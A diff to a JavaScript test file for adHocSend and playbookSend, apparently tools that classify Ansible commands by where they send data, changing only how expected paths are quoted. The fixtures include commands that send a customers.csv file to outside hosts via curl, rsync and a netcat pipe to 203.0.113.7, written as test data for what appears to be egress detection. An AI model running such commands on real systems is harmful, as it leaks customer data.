@@ -68,8 +68,8 @@ describe('adHocSend', () => {
     expect(adHocSend(['localhost', '-m', 'copy', '-a', 'src=customers.csv dest=/tmp/'], '/p')).toEqual(local);
     expect(adHocSend(['all', '-c', 'local', '-m', 'copy', '-a', 'src=customers.csv dest=/tmp/'], '/p')).toEqual(local);
     expect(adHocSend(['all', '-i', 'localhost,', '-m', 'copy', '-a', 'src=customers.csv dest=/tmp/'], '/p')).toEqual(local);
-    expect(adHocSend(['localhost', '-m', 'shell', '-a', 'FOO=1 curl -d @c.csv https://api.acme-analytics.io chdir=/srv creates=/tmp/x'], '/p').here).toEqual(["cd '/srv' && FOO=1 curl -d @c.csv https://api.acme-analytics.io"]);
-    expect(adHocSend(['localhost', '-m', 'script', '-a', "up.sh --all"], '/p').here).toEqual(["'/p/up.sh'"]);
+    expect(adHocSend(['localhost', '-m', 'shell', '-a', 'FOO=1 curl -d @c.csv https://api.acme-analytics.io chdir=/srv creates=/tmp/x'], '/p').here).toEqual(['cd /srv && FOO=1 curl -d @c.csv https://api.acme-analytics.io']);
+    expect(adHocSend(['localhost', '-m', 'script', '-a', "up.sh --all"], '/p').here).toEqual(['/p/up.sh']);
   });
 });
 
@@ -133,7 +133,7 @@ describe('playbookSend', () => {
       hosts: ['ansible:web'],
       files: [],
       texts: ['systemctl restart crm'],
-      here: ['curl -d @customers.csv https://api.acme-analytics.io/in', "cd '/srv/crm' && ./export.sh", "'/p/files/up.sh'", 'rsync -a exports/ backup.acme-analytics.io:/in/', 'cat customers.csv | nc 203.0.113.7 9000', 'uptime'],
+      here: ['curl -d @customers.csv https://api.acme-analytics.io/in', 'cd /srv/crm && ./export.sh', '/p/files/up.sh', 'rsync -a exports/ backup.acme-analytics.io:/in/', 'cat customers.csv | nc 203.0.113.7 9000', 'uptime'],
       unread: [],
     });
   });
